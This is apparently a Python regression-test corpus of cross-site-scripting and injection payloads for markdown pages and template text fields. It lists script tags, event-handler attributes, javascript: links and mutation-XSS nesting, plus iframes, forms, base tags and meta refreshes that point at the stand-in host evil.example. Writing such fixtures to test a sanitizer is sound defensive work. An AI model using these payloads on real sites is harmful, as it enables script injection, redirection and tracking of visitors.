"""The regression corpus: what an attacker's pull request might put in a page. Each one, if it ran,
would set window.__pwned or ask another host for something (evil.example)."""
from __future__ import annotations

PWN = "window.__pwned=1"

# Markdown a contributor writes in a page
IN_PAGES = [
    f"<x<script>{PWN}</script>",
    f"<scr<script>ipt>{PWN}</script>",
    f"<svg/onload={PWN}>",
    f'<div><img alt=">" src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={PWN}></div>',
    f'<a title=">" href=javascript:{PWN}>tap</a>',
    f'A paragraph.\n{{ onclick="{PWN}" }}',
    f"`code` and <script>{PWN}</script> `more code`",
    f"```not a fence <script>{PWN}</script>",
    '<span style="background-image: image-set(\'http://evil.example/x.png\' 1x)">styled</span>',
    f"[tap](&#106;avascript:{PWN})",
    "![tracker](https://evil.example/pixel.png)",
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name="q"></form>',
    f'<details open ontoggle="{PWN}"><summary>x</summary></details>',
    '<object data="https://evil.example/x.swf"></object>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
]

# text fields that templates print: front matter, termbase, interface strings
AS_TEXT = [
    f'"><script>{PWN}</script>',
    f"<svg onload={PWN}>",
    f"<img src=x onerror={PWN}>",
]
